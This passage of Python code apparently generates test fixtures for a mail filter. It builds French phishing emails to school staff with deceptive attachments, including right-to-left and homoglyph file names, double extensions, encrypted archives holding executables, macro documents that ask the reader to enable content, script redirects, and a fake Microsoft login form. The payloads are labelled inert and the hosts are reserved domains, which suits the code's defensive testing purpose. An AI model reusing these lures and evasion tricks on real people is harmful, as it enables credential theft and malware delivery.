                      "Manuels de 6e à 3e – remise établissement 25 %"],
                     title="Bon de commande 2026-2027", creator="Service commandes", when=(2026, 11, 4, 16, 20, 0),
                     company="Editions Lirelire", vba=vba_bin("word"))
    paragraphs = ["Madame, Monsieur,", "",
                  "Dans le cadre de la réforme des programmes, nous vous adressons le bon de commande des manuels "
                  "2026-2027 avec la remise établissement de 25&nbsp;%.",
                  "Merci d’activer le contenu (macros) à l’ouverture du document&nbsp;: le calcul des remises est "
                  "automatique.",
                  "Le bon est à retourner complété avant le 20 novembre.", "", "Bien cordialement,"]
    return outlook_message(
        sender=addr("Éditions Lirelire – Service commandes", "commandes@editions-lirelire.example"),
        to=SECRETARIAT, subject=ew("Bon de commande manuels 2026-2027 – à retourner avant le 20/11"), when=when,
        msgid="DB9PR04MB8123A6F0C71D4E2B9F3A5C7D8E61@DB9PR04MB8123.eurprd04.prod.outlook.com",
        tag="DB9PR04MB8123A6F0C71D4E2B9F3A5C7D8E61DB9PR04MB8123eurp_", paragraphs=paragraphs,
        signature=["Service commandes – Éditions Lirelire", "commandes@editions-lirelire.example"],
        attachments=[outlook_attachment("application/vnd.ms-word.document.macroEnabled.12",
                                        "Bon_de_commande_2026-2027.docm", docm, when)])


def roundcube_message(*, sender, to, subject, when, msgid, text, attachments, boundary, host):
    return message([
        f"Received: from {host} (webmail.{host.split('.', 1)[1]} [198.51.100.23])\n\tby mx2.ac-amiens.fr (Postfix) "
        f"with ESMTPSA id 4Qc1Kd0pNbz2vRt\n\tfor <{to.split('<')[-1].rstrip('>')}>; {rfc822_date(when)} (CET)",
        "MIME-Version: 1.0", f"Date: {rfc822_date(when)}", f"From: {sender}", f"To: {to}",
        f"Subject: {subject}", f"Message-ID: <{msgid}>", "X-Sender: " + sender.split("<")[-1].rstrip(">"),
        "User-Agent: Roundcube Webmail/1.6.5",
        f'Content-Type: multipart/mixed;\n boundary="{boundary}"'],
        multipart(boundary, [text_part(text, "US-ASCII" if text.isascii() else "UTF-8",
                                       "7bit" if text.isascii() else "8bit",
                                       extra="; format=flowed")] + attachments))


@case("phish-att-rtlo-releve", "attachment-deceptive-name,attachment-program,external-sender")
def _():
    when = (2026, 11, 5, 19, 41, 8)
    name = "Releve_notes\u202efdp.scr"
    att = part([f"Content-Type: application/octet-stream;\n name*=utf-8''{pct(name)}",
                "Content-Transfer-Encoding: base64",
                f"Content-Disposition: attachment;\n {p2231('filename', name)};\n size={len(make_pe(0x6908F3A1))}"],
               b64(make_pe(0x6908F3A1)))
    text = ("Bonjour,\n\nVeuillez trouver ci-joint le relevé de notes du 1er trimestre de votre élève, "
            "demandé par le professeur principal.\nMerci de le vérifier avant le conseil de classe.\n\n"
            "Bien cordialement,\nLa vie scolaire\n")
    return roundcube_message(
        sender=addr("Vie scolaire – Lycée Jules Verne", "viescolaire@lycee-julesverne-amiens.example"),
        to=MARIE, subject=ew("Relevé de notes – 1er trimestre"), when=when,
        msgid="8f3c1d2a9b7e4f60c5a1d3e2b9f07c4a@lycee-julesverne-amiens.example", text=text,
        attachments=[att], boundary="=_8e3c6f0a2b7d9e14c5a0f7b3d2e1c9a8", host="webmail.lycee-julesverne-amiens.example")


def outlook_express_message(*, sender, to, subject, when, msgid, text, attachments, tag, html=None,
                            reply_to=None, priority=True):
    b_mixed = f"----=_NextPart_000_{tag}"
    b_alt = f"----=_NextPart_001_{tag}"
    if html:
        first = part([f'Content-Type: multipart/alternative;\n\tboundary="{b_alt}"'],
                     multipart(b_alt, [text_part(text, "utf-8", "quoted-printable"),
                                       text_part(html, "utf-8", "quoted-printable", "html")]))
    else:
        first = text_part(text, "utf-8", "quoted-printable")
    return message([
        f"From: {sender}", f"To: {to}", f"Reply-To: {reply_to}" if reply_to else "", f"Subject: {subject}",
        f"Date: {rfc822_date(when)}", f"Message-ID: <{msgid}>", "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed;\n\tboundary="{b_mixed}"',
        "X-Priority: 1" if priority else "X-Priority: 3", "X-MSMail-Priority: High" if priority else "",
        "X-Mailer: Microsoft Outlook Express 6.00.2900.5512",
        "X-MimeOLE: Produced By Microsoft MimeOLE V6.00.2900.5512"],
        multipart(b_mixed, [first] + attachments, "This is a multi-part message in MIME format."))


@case("phish-att-facture-pdf-exe", "attachment-disguised,attachment-program,external-sender")
def _():
    when = (2026, 11, 6, 7, 55, 31)
    exe = make_pe(0x690C4B22)
    att = part(['Content-Type: application/octet-stream;\n\tname="Facture_2026.pdf.exe"',
                "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment;\n\tfilename="Facture_2026.pdf.exe"'], b64(exe))
    text = ("Bonjour,\n\nSuite à votre commande, veuillez trouver ci-joint votre facture 2026.\n"
            "Merci d'en accuser réception.\n\nCordialement,\nService clients – Bureau Vallée Pro\n")
    return outlook_express_message(
        sender=addr("Service clients", "factures@bureau-pro-services.example"), to=GESTION,
        subject="Votre facture 2026", when=when, msgid="000701db4f2a$3c5e8b10$b41ba230$@bureau-pro-services.example",
        text=text, attachments=[att], tag="0007_01DB4F2A.3C5E8B10")


@case("phish-att-pdf-mz", "attachment-disguised,attachment-program,external-sender")
def _():
    when = (2026, 11, 6, 13, 22, 5)
    exe = make_pe(0x690C9911)
    att = part(["Content-Type: application/pdf;\n name=facture.pdf", "Content-Transfer-Encoding: base64",
                "Content-Disposition: attachment;\n filename=facture.pdf;\n size=" + str(len(exe))], b64(exe))
    text = ("Bonjour,\n\nVous trouverez ci-joint l'avis de paiement de la facture 2026-1187 (transport du 14 octobre).\n"
            "Le virement a été émis ce jour.\n\nSalutations,\nComptabilité – Autocars du Santerre\n")
    return roundcube_message(
        sender=addr("Comptabilité Autocars du Santerre", "compta@autocars-santerre.example"), to=GESTION,
        subject="Avis de paiement - facture 2026-1187", when=when,
        msgid="c41d7e09a2b35f18e6d4c0a9b1f2e3d7@autocars-santerre.example", text=text, attachments=[att],
        boundary="=_41d7e09a2b35f18e6d4c0a9b1f2e3d70", host="webmail.autocars-santerre.example")


@case("phish-att-zip-password", "attachment-archive-program,attachment-encrypted-archive,external-sender")
def _():
    when = (2026, 11, 9, 9, 14, 2)
    dt = (2026, 11, 9, 8, 51, 44)
    zipped = make_zip([("Attestation_employeur_2026.exe", make_pe(0x69105A4B), dt, 8),
                       ("Lisez-moi.txt", "Double-cliquez sur l'attestation pour l'ouvrir.\r\n".encode("cp1252"), dt, 8)],
                      password="2026")
    paragraphs = ["Madame, Monsieur,", "",
                  "Dans le cadre de la mise à jour annuelle des dossiers administratifs, vous trouverez ci-joint votre "
                  "attestation employeur 2026 ainsi que le formulaire de régularisation.",
                  "Pour des raisons de confidentialité, l’archive est protégée.", "",
                  "<b>Mot de passe : 2026</b>", "",
                  "Merci de nous retourner le formulaire complété avant le 16 novembre.", "",
                  "La Direction des ressources humaines"]
    return outlook_message(
        sender=addr("DRH – Gestion des personnels", "drh.gestion@rh-personnels-education.example"),
        to=MARIE, subject=ew("Mise à jour de votre dossier administratif – attestation employeur 2026"), when=when,
        msgid="AM8P190MB09745D2E1F0C3B6A8E9D4F1C2B7A@AM8P190MB0974.EURP190.PROD.OUTLOOK.COM",
        tag="AM8P190MB09745D2E1F0C3B6A8E9D4F1C2B7AAM8P190MB0974EURP_", paragraphs=paragraphs,
        attachments=[outlook_attachment("application/x-zip-compressed", "Documents_RH_2026.zip", zipped, when)])


@case("phish-att-iso-lnk", "attachment-archive-program,attachment-program,external-sender")
def _():
    when = (2026, 11, 9, 15, 2, 19)
    iso = make_iso([("BON_DE_LIVRAISON_PDF.LNK", inert_lnk("Bon de livraison BL-77310", (2026, 11, 9, 14, 30, 0)),
                     False)], volume_id="BL_77310", preparer="IMGBURN V2.5.8.0 - THE ULTIMATE IMAGE BURNER!",
                   when=(2026, 11, 9, 14, 31, 7))
    paragraphs = ["Bonjour,", "",
                  "La livraison du mobilier (24 tables, 48 chaises) est prévue jeudi 12 novembre entre 8 h et 12 h.",
                  "Merci de consulter le bon de livraison BL-77310 joint et de nous confirmer le créneau.", "",
                  "Cordialement,"]
    return outlook_message(
        sender=addr("Mobilier Scolaire Direct – Livraisons", "livraison@mobilier-scolaire-direct.example"),
        to=GESTION, subject=ew("Livraison mobilier – bon de livraison BL-77310 à confirmer"), when=when,
        msgid="PAXP193MB1654E0B2C9A7D3F1E8B6C5A4D2F3@PAXP193MB1654.EURP193.PROD.OUTLOOK.COM",
        tag="PAXP193MB1654E0B2C9A7D3F1E8B6C5A4D2F3PAXP193MB1654EURP_", paragraphs=paragraphs,
        signature=["Service logistique", "Mobilier Scolaire Direct"],
        attachments=[outlook_attachment("application/octet-stream", "Bon_livraison_mobilier.iso", iso, when)])


@case("phish-att-svg-redirect", "attachment-html-script,display-name-impersonation,external-sender")
def _():
    when = (2026, 11, 10, 11, 8, 45)
    svg = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="140" viewBox="0 0 420 140">
  <rect width="420" height="140" rx="10" fill="#1f2a44"/>
  <circle cx="70" cy="70" r="38" fill="#2e86de"/>
  <polygon points="60,50 60,90 92,70" fill="#ffffff"/>
  <text x="130" y="62" font-family="Segoe UI, Arial" font-size="20" fill="#ffffff">Message vocal (0:42)</text>
  <text x="130" y="92" font-family="Segoe UI, Arial" font-size="14" fill="#c8d0e0">+33 3 22 .. .. 17 - chargement...</text>
  <script type="text/javascript"><![CDATA[
    // Fixture de test AmiensMail : redirection vers un domaine réservé (.example).
    var d = "ecoute-messagerie-vocale.example";
    window.location.href = "https://" + d + "/lecture?m=0322&u=" + encodeURIComponent("marie.dupont@ac-amiens.fr");
  ]]></script>
</svg>
""".encode()
    html = ("<html><body style=\"font-family:Segoe UI,Arial\"><table width=\"520\" style=\"border:1px solid #ccc\">"
            "<tr><td style=\"background:#1f2a44;color:#fff;padding:12px\"><b>Nouveau message vocal</b></td></tr>"
            "<tr><td style=\"padding:12px\">Appelant&nbsp;: +33 3 22 •• •• 17<br>Durée&nbsp;: 0:42<br>"
            "Reçu le&nbsp;: 10/11/2026 11:07<br><br>Ouvrez la pièce jointe pour écouter le message.</td></tr></table>"
            "</body></html>\n")
    b = "--_=_swift_v4_1731232125_8b1c07d9e3f54a2c6b9d0e1f2a3b4c5d_=_"
    att = part(['Content-Type: image/svg+xml; name="Message_vocal_0322.svg"', "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment; filename="Message_vocal_0322.svg"'], b64(svg))
    return message([
        "Message-ID: <8b1c07d9e3f54a2c6b9d0e1f2a3b4c5d@notification-vocale.example>", f"Date: {rfc822_date(when)}",
        "Subject: " + ew("Nouveau message vocal (0:42) de +33 3 22 •• •• 17"),
        "From: " + addr("Messagerie vocale", "voicemail@notification-vocale.example"), "To: " + MARIE,
        "MIME-Version: 1.0", f'Content-Type: multipart/mixed; boundary="{b}"'],
        multipart(b, [text_part(html, "utf-8", "quoted-printable", "html"), att]))


def zimbra_message(*, sender, to, subject, when, msgid, text, html, attachments, tag, extra_headers=()):
    b_mixed = f"=_{tag}"
    b_alt = f"=_{tag[::-1]}"
    if html:
        first = part([f'Content-Type: multipart/alternative; \n boundary="{b_alt}"'],
                     multipart(b_alt, [text_part(text, "utf-8", "quoted-printable"),
                                       text_part(html, "utf-8", "quoted-printable", "html")]))
    else:
        first = text_part(text, "utf-8", "quoted-printable")
    return message([
        f"Date: {rfc822_date(when)}", f"From: {sender}", f"To: {to}", f"Message-ID: <{msgid}>",
        f"Subject: {subject}", "MIME-Version: 1.0", f'Content-Type: multipart/mixed; \n boundary="{b_mixed}"',
        "X-Originating-IP: [10.80.12.41]", "X-Mailer: Zimbra 9.0.0_GA_4546 (ZimbraWebClient - FF132 (Linux)/9.0.0_GA_4546)",
        f"Thread-Topic: {subject}", f"Thread-Index: {base64.b64encode(det_bytes('zthread/' + tag, 15)).decode()}",
        *extra_headers],
        multipart(b_mixed, [first] + attachments))


def zimbra_html(paragraphs):
    return ('<html><body><div style="font-family: arial, helvetica, sans-serif; font-size: 12pt; color: #000000">'
            + "".join("<div>" + (p if p else '<br data-mce-bogus="1">') + "</div>" for p in paragraphs) +
            "</div></body></html>")


@case("phish-att-lnk", "attachment-program")
def _():
    when = (2026, 11, 10, 16, 40, 3)
    lnk = inert_lnk("Planning des inspections", (2026, 11, 10, 16, 10, 0))
    paragraphs = ["Bonjour à toutes et à tous,", "",
                  "Vous trouverez ci-joint le planning des inspections du bassin pour la période de novembre à "
                  "janvier. Merci de l'ouvrir et de vérifier vos créneaux.", "", "Bonne fin de journée,",
                  "Claire Vasseur", "Secrétariat de l'inspection"]
    att = part(['Content-Type: application/octet-stream; name=Planning_des_inspections.lnk',
                "Content-Disposition: attachment; filename=Planning_des_inspections.lnk",
                "Content-Transfer-Encoding: base64"], b64(lnk))
    return zimbra_message(
        sender="Claire Vasseur <claire.vasseur@ac-lille.fr>", to=MARIE,
        subject="Planning des inspections - bassin", when=when,
        msgid="1204587312.4477102.1731253203551.JavaMail.zimbra@ac-lille.fr",
        text="\n".join(paragraphs), html=zimbra_html(paragraphs), attachments=[att],
        tag="_3f9a1c2e-77b4-4d0e-9c5a-8e1b2d3f4a5b")


@case("phish-att-xls-vba", "attachment-macros,enable-content-request,external-sender")
def _():
    when = (2026, 11, 12, 8, 5, 41)
    tree = {"Workbook": xls_workbook_stream("Heures", [["Contenu protégé"],
                                                      ["Activez le contenu pour afficher le tableau"],
                                                      ["État des HSE – novembre 2026"]]),
            "\x05SummaryInformation": summary_information("Etat HSE", "DAF", "Microsoft Excel",
                                                          (2026, 11, 11, 17, 2, 0)),
            "_VBA_PROJECT_CUR": vba_storage("VBAProject", [
                ("ThisWorkbook", "document", document_module("ThisWorkbook", "excel")),
                ("Module1", "procedural", INERT_MACRO.format(name="Module1"))], "excel")}
    xls = make_cfb(tree, root_clsid=bytes.fromhex("2008020000000000c000000000000046"), mtime=(2026, 11, 11, 17, 2, 0))
    paragraphs = ["Madame, Monsieur,", "",
                  "Afin de procéder à la mise en paiement des heures supplémentaires effectives (HSE) de novembre, "
                  "merci de compléter l’état joint avant le 25 novembre.",
                  "Le fichier est protégé&nbsp;: à l’ouverture, cliquez sur «&nbsp;Activer la modification&nbsp;» "
                  "puis sur «&nbsp;Activer le contenu&nbsp;» pour faire apparaître le tableau.", "",
                  "Bureau des rémunérations"]
    return outlook_message(
        sender=addr("DAF – Bureau des rémunérations", "remunerations@daf-personnels.example"), to=PRINCIPAL,
        subject=ew("HSE novembre : état à compléter avant le 25/11"), when=when,
        msgid="VI1PR08MB5423B7C0D1E2F3A4B5C6D7E8F901@VI1PR08MB5423.eurprd08.prod.outlook.com",
        tag="VI1PR08MB5423B7C0D1E2F3A4B5C6D7E8F901VI1PR08MB5423eurp_", paragraphs=paragraphs,
        attachments=[outlook_attachment("application/vnd.ms-excel", "Etat_HSE_novembre_2026.xls", xls, when)])


@case("phish-att-7z-vbs", "attachment-archive-program,external-sender")
def _():
    when = (2026, 11, 12, 10, 31, 7)
    seven = make_7z([("Scan_0042.pdf.vbs", INERT_VBS, (2026, 11, 12, 9, 30, 58))])
    text = ("Numérisé depuis : RICOH MP C3004\nNombre de pages : 3\nFormat : PDF (compressé)\n"
            "Date : 12/11/2026 10:30\n\nCe message a été envoyé automatiquement par le copieur.\n")
    b = "----_Part_1207_3471562.1731403867"
    att = part(['Content-Type: application/x-7z-compressed; name="Scan_0042.7z"', "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment; filename="Scan_0042.7z"'], b64(seven))
    return message([
        "From: " + addr("Scanner RICOH", "scanner@copieur-services-picardie.example"), "To: " + SECRETARIAT,
        "Subject: " + ew("Document numérisé : Scan_0042"), f"Date: {rfc822_date(when)}",
        "Message-ID: <1207.3471562.1731403867@copieur-services-picardie.example>", "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{b}"'],
        multipart(b, [text_part(text, "UTF-8", "8bit"), att]))


def gmail_message(*, sender, to, subject, when, msgid, text, html, attachments, tag):
    b_mixed = f"0000000000{tag}"
    b_alt = f"0000000000{tag[:-2]}ff"
    alt = part([f'Content-Type: multipart/alternative; boundary="{b_alt}"'],
               multipart(b_alt, [text_part(text, "UTF-8", "quoted-printable"),
                                 text_part(html, "UTF-8", "quoted-printable", "html")]))
    return message([
        "MIME-Version: 1.0", f"Date: {rfc822_date(when)}", f"Message-ID: <{msgid}>", f"Subject: {subject}",
        f"From: {sender}", f"To: {to}", f'Content-Type: multipart/mixed; boundary="{b_mixed}"'],
        multipart(b_mixed, [alt] + attachments))


def gmail_attachment(ctype, name, data, att_id):
    ct_name = f'"{name}"' if name.isascii() else f'"{ew(name, "B", "UTF-8", 60)}"'
    return part([f"Content-Type: {ctype}; name={ct_name}", f"Content-Disposition: attachment; filename={ct_name}",
                 "Content-Transfer-Encoding: base64", f"Content-ID: <{att_id}>", f"X-Attachment-Id: {att_id}"],
                b64(data))


@case("phish-att-htm-refresh", "attachment-html-script,external-sender")
def _():
    when = (2026, 11, 12, 14, 2, 33)
    page = """<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta http-equiv="refresh" content="0; url=https://avis-virement-banque.example/consultation?ref=VIR20261112">
<title>Avis de virement</title>
<script>
  // Fixture de test AmiensMail : redirection vers un domaine réservé (.example).
  location.replace("https://avis-virement-banque.example/consultation?ref=VIR20261112");
</script>
</head>
<body>
<p>Chargement de votre avis de virement&hellip;</p>
</body>
</html>
""".encode()
    text = ("Bonjour,\n\nLe remboursement de vos frais de déplacement d'octobre a été viré ce jour. "
            "Vous trouverez l'avis de virement en pièce jointe.\n\nCordialement,\nService comptabilité\n")
    html = ('<div dir="ltr"><div>Bonjour,</div><div><br></div><div>Le remboursement de vos frais de déplacement '
            "d'octobre a été viré ce jour. Vous trouverez l'avis de virement en pièce jointe.</div><div><br></div>"
            "<div>Cordialement,</div><div>Service comptabilité</div></div>\n")
    return gmail_message(
        sender=addr("Service comptabilité", "service.comptabilite.fr@gmail.com"), to=MARIE,
        subject=ew("Avis de virement – remboursement frais de déplacement"), when=when,
        msgid="CAF7x2QmZkR3yP0tV9nL1cE8hJ5uW4sG6bN2aD7oKq3Xy1mT8fA@mail.gmail.com", text=text, html=html,
        attachments=[gmail_attachment("text/html; charset=\"UTF-8\"", "Avis_de_virement_20261112.htm", page,
                                      "f_mhw2k9x10")], tag="8c2f5a0612d4e7b1")


@case("phish-att-spaces-exe", "attachment-deceptive-name,attachment-disguised,attachment-program,external-sender")
def _():
    when = (2026, 11, 13, 7, 12, 50)
    name_a = "Convocation_conseil_de_discipline.pdf" + " " * 30
    name_b = " " * 30 + ".exe"
    exe = make_pe(0x6914F0C3)
    att = part([f'Content-Type: application/octet-stream;\n\tname*0="{name_a}";\n\tname*1="{name_b}"',
                "Content-Transfer-Encoding: base64",
                f'Content-Disposition: attachment;\n\tfilename*0="{name_a}";\n\tfilename*1="{name_b}"'], b64(exe))
    text = ("Madame, Monsieur,\n\nVous êtes convoqué(e) en qualité de membre du conseil de discipline qui se "
            "réunira le 20 novembre 2026 à 14 h.\nLa convocation et le dossier de l'élève sont joints.\n\n"
            "Le secrétariat de direction\n")
    return outlook_express_message(
        sender=addr("Secrétariat de direction", "secretariat.direction@convocations-etablissements.example"),
        to=MARIE, subject=ew("Convocation – conseil de discipline du 20 novembre"), when=when,
        msgid="001101db5563$a1b2c3d4$e5f60718$@convocations-etablissements.example", text=text,
        attachments=[att], tag="0011_01DB5563.A1B2C3D4")


@case("phish-att-cyrillic-lnk", "attachment-deceptive-name,attachment-disguised,attachment-program,external-sender")
def _():
    when = (2026, 11, 13, 9, 45, 12)
    name = "Bordereau_de_livraison.\u0440df"  # CYRILLIC SMALL LETTER ER, not a Latin p
    lnk = inert_lnk("Bordereau de livraison", (2026, 11, 13, 9, 0, 0))
    att = part([f"Content-Type: application/pdf;\n {p2231('name', name)}", "Content-Transfer-Encoding: base64",
                f"Content-Disposition: attachment;\n {p2231('filename', name)}"], b64(lnk))
    text = ("Bonjour,\n\nVotre colis (manuels scolaires, 3 cartons) n'a pas pu être livré : l'établissement était "
            "fermé lors de notre passage.\nLe bordereau de livraison est joint ; merci de le présenter au "
            "chauffeur lors de la nouvelle livraison.\n\nTransports Lefebvre\n")
    return roundcube_message(
        sender=addr("Transports Lefebvre", "livraisons@transports-lefebvre.example"), to=SECRETARIAT,
        subject=ew("Colis en attente – bordereau de livraison"), when=when,
        msgid="5a9e0c7b3d1f42e6a8c0b2d4f6e8a1c3@transports-lefebvre.example", text=text, attachments=[att],
        boundary="=_a9e0c7b3d1f42e6a8c0b2d4f6e8a1c35", host="webmail.transports-lefebvre.example")


def thunderbird_message(*, sender, to, subject, when, msgid, text, attachments, boundary, ua=None, cc=None,
                        extra_headers=()):
    return message([
        f'Content-Type: multipart/mixed; boundary="{boundary}"', f"Message-ID: <{msgid}>",
        f"Date: {rfc822_date(when)}", "MIME-Version: 1.0",
        "User-Agent: " + (ua or "Mozilla Thunderbird"), "Content-Language: fr", f"To: {to}",
        f"Cc: {cc}" if cc else "", f"From: {sender}", f"Subject: {subject}", *extra_headers],
        multipart(boundary, [text_part(text, "UTF-8", "8bit", extra="; format=flowed")] + attachments,
                  "This is a multi-part message in MIME format."))


def thunderbird_attachment(ctype, name, data):
    ct_name = f'"{name}"' if name.isascii() else f'"{ew(name, "Q", "UTF-8", 60)}"'
    disp = f'filename="{name}"' if name.isascii() else p2231("filename", name, "UTF-8")
    return part([f"Content-Type: {ctype}; name={ct_name}", f"Content-Disposition: attachment; {disp}",
                 "Content-Transfer-Encoding: base64"], b64(data, 72))


@case("phish-att-odt-basic", "attachment-macros,enable-content-request,external-sender")
def _():
    when = (2026, 11, 16, 11, 20, 4)
    basic = ("REM Fixture de test AmiensMail : macro inerte (elle n'affiche qu'un message).\n"
             "Sub CalculerMontant\n    MsgBox \"Fixture de test AmiensMail\"\nEnd Sub\n")
    odt = make_odt(["# Voyage scolaire à Londres – 15 au 19 mars 2027", "Formulaire d'inscription de la classe",
                    "Les montants se calculent automatiquement : activez les macros à l'ouverture du document.",
                    "Nom de l'établissement :", "Nombre d'élèves :", "Nombre d'accompagnateurs :"],
                   title="Formulaire d'inscription", creator="Horizon Voyages", when=(2026, 11, 16, 10, 2, 0),
                   basic_module=basic)
    text = ("Bonjour,\n\nSuite à votre demande de devis, voici le formulaire d'inscription pour le voyage à Londres "
            "(mars 2027).\nLe formulaire calcule le montant par élève : à l'ouverture, LibreOffice affiche un "
            "avertissement, cliquez alors sur « Activer les macros ».\n\nMerci de nous le retourner avant le "
            "27 novembre pour bloquer les places.\n\nBien cordialement,\n-- \nHorizon Voyages Scolaires\n")
    return thunderbird_message(
        sender=addr("Horizon Voyages Scolaires", "inscriptions@horizon-voyages.example"), to=MARIE,
        subject=ew("Voyage scolaire Londres – formulaire d'inscription"), when=when,
        msgid="b7e2c9a4-51d3-4f08-9e6a-2c1d0b8f7a35@horizon-voyages.example", text=text,
        attachments=[thunderbird_attachment("application/vnd.oasis.opendocument.text",
                                            "Formulaire_inscription_voyage_Londres.odt", odt)],
        boundary="------------9R2mX0bLq7T4vZc8Kd1fHs6W")


@case("phish-att-doc-english", "attachment-macros,enable-content-request,external-sender")
def _():
    when = (2026, 11, 16, 15, 33, 18)
    tree = {"WordDocument": word_document_stream("Invoice INV-55812\nThis document is protected.\n"
                                                 "To view the content, click Enable Editing and then Enable Content."),
            "1Table": bytes(4096 // 8),
            "Macros": vba_storage("Project", [
                ("ThisDocument", "document", document_module("ThisDocument", "word")),
                ("Module1", "procedural", INERT_MACRO.format(name="Module1"))], "word")}
    doc = make_cfb(tree, root_clsid=bytes.fromhex("0609020000000000c000000000000046"), mtime=(2026, 11, 16, 14, 0, 0))
    paragraphs = ["Dear Customer,", "",
                  "Our records show that invoice INV-55812 (EUR 2,418.00) for the interactive whiteboards delivered "
                  "on 2 October is now 30 days overdue.",
                  "Please review the attached invoice. The document is protected: if a yellow bar appears, click "
                  "<b>Enable Editing</b> and then <b>Enable Content</b> to display it.", "",
                  "Kind regards,"]
    msg = outlook_message(
        sender=addr("Accounts Receivable", "ar@global-edu-supplies.example"), to=GESTION,
        subject="Overdue invoice INV-55812 - action required", when=when,
        msgid="LO2P265MB5671F2A3B4C5D6E7F8091A2B3C4D@LO2P265MB5671.GBRP265.PROD.OUTLOOK.COM",
        tag="LO2P265MB5671F2A3B4C5D6E7F8091A2B3C4DLO2P265MB5671GBRP_", paragraphs=paragraphs,
        signature=["Accounts Receivable Team", "Global Edu Supplies Ltd, London"],
        attachments=[outlook_attachment("application/msword", "Invoice_INV-55812.doc", doc, when)])
    return msg.replace("Content-Language: fr-FR", "Content-Language: en-GB").replace(
        "Accept-Language: fr-FR, en-US", "Accept-Language: en-GB, en-US").replace('lang="FR"', 'lang="EN-GB"')


@case("phish-att-nested-zip", "attachment-archive-program,external-sender")
def _():
    when = (2026, 11, 17, 8, 2, 27)
    dt = (2026, 11, 17, 7, 40, 12)
    inner = make_zip([("Convocation_rectorat.hta", INERT_HTA, dt, 8),
                      ("Notice.txt", b"Ouvrir Convocation_rectorat pour afficher la convocation.\r\n", dt, 8)])
    outer = make_zip([("Convocation_jury/", None, dt, 0), ("Convocation_jury/Documents.zip", inner, dt, 0)])
    text = ("Madame, Monsieur,\n\nVous avez été désigné(e) membre du jury du CAP (session 2027).\n"
            "Votre convocation et les documents de la commission sont joints (archive).\n\n"
            "Le service des examens\n")
    return outlook_express_message(
        sender=addr("Service des examens", "examens@jurys-session2027.example"), to=MARIE,
        subject=ew("Convocation – jury du CAP, session 2027"), when=when,
        msgid="001501db58a7$4f2e9c10$ed5bd430$@jurys-session2027.example", text=text,
        attachments=[part(['Content-Type: application/x-zip-compressed;\n\tname="Convocation_jury.zip"',
                           "Content-Transfer-Encoding: base64",
                           'Content-Disposition: attachment;\n\tfilename="Convocation_jury.zip"'], b64(outer))],
        tag="0015_01DB58A7.4F2E9C10", priority=False)


@case("phish-att-7z-password", "attachment-archive-program,attachment-encrypted-archive,external-sender")
def _():
    when = (2026, 11, 17, 18, 4, 51)
    seven = make_7z([("Simulation_pension_2026.pdf.exe", make_pe(0x691B5D2E), (2026, 11, 17, 16, 22, 3)),
                     ("Notice.txt", "Ouvrez la simulation pour afficher votre relevé de carrière.\r\n".encode(),
                      (2026, 11, 17, 16, 22, 3))], password="8472")
    text = ("Madame, Monsieur,\n\nVotre simulation de pension 2026 est disponible. Pour protéger vos données "
            "personnelles, le dossier joint est chiffré.\n\nCode : 8472\n\nNous vous invitons à vérifier votre "
            "relevé de carrière avant le 1er décembre.\n\nService des pensions\n")
    att = part(['Content-Type: application/x-7z-compressed;\n name=Dossier_retraite_2026.7z',
                "Content-Transfer-Encoding: base64",
                "Content-Disposition: attachment;\n filename=Dossier_retraite_2026.7z;\n size=" + str(len(seven))],
               b64(seven))
    return roundcube_message(
        sender=addr("Service des pensions", "pensions@retraite-fonctionnaires.example"), to=MARIE,
        subject=ew("Votre simulation de pension 2026"), when=when,
        msgid="e0f1a2b3c4d5e6f708192a3b4c5d6e7f@retraite-fonctionnaires.example", text=text, attachments=[att],
        boundary="=_0f1a2b3c4d5e6f708192a3b4c5d6e7f8", host="webmail.retraite-fonctionnaires.example")


@case("phish-att-xlsm", "attachment-macros,external-sender")
def _():
    when = (2026, 11, 18, 9, 58, 0)
    xlsm = make_xlsx([["État de frais de déplacement – 4e trimestre 2026"], ["Nom", "Prénom", "Grade"],
                      ["Date", "Trajet", "Km", "Montant"], ["", "", 0, ("=", "C4*0.35", 0)]],
                     sheet="Frais T4", title="Etat de frais T4", creator="Bureau des frais", when=(2026, 11, 18, 8, 0, 0),
                     vba=vba_bin("excel"))
    paragraphs = ["Bonjour,", "",
                  "Afin de régulariser vos frais de déplacement du 4e trimestre, merci de compléter l’état de frais "
                  "ci-joint et de nous le renvoyer avant le 30 novembre.",
                  "Les frais non déclarés à cette date ne pourront pas être remboursés.", "", "Cordialement,",
                  "Bureau des frais de déplacement"]
    return outlook_message(
        sender=addr("Bureau des frais de déplacement", "frais.deplacement@remboursements-personnels.example"),
        to=MARIE, subject=ew("État de frais T4 2026 – à compléter"), when=when,
        msgid="PA4P190MB1263C9D8E7F6A5B4C3D2E1F0A9B8@PA4P190MB1263.EURP190.PROD.OUTLOOK.COM",
        tag="PA4P190MB1263C9D8E7F6A5B4C3D2E1F0A9B8PA4P190MB1263EURP_", paragraphs=paragraphs,
        attachments=[outlook_attachment("application/vnd.ms-excel.sheet.macroEnabled.12",
                                        "Etat_frais_deplacement_T4.xlsm", xlsm, when)])


@case("phish-att-html-form-script", "attachment-html-form,attachment-html-script,external-sender")
def _():
    when = (2026, 11, 18, 13, 15, 2)
    page = """<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Sign in to your account</title>
<style>
body { font-family: "Segoe UI", Arial, sans-serif; background: #f2f2f2; }
.box { width: 340px; margin: 80px auto; background: #fff; padding: 44px; box-shadow: 0 2px 6px rgba(0,0,0,.2); }
input { width: 100%; border: 0; border-bottom: 1px solid #666; padding: 6px 0; margin: 10px 0; }
.btn { background: #0067b8; color: #fff; border: 0; padding: 8px 24px; float: right; }
</style>
</head>
<body>
<div class="box">
<div style="font-size:20px;color:#5e5e5e">Microsoft</div>
<h2>Sign in to view "Salaires_2026.xlsx"</h2>
<form id="f" action="https://sharepoint-docs-viewer.example/owa/auth.php" method="post" onsubmit="return send();">
<input type="email" id="email" name="login" placeholder="Email, phone, or Skype">
<input type="password" name="passwd" placeholder="Password">
<input class="btn" type="submit" value="Sign in">
</form>
</div>
<script>
  // AmiensMail test fixture: fills in the address from the link; the form posts to a reserved domain.
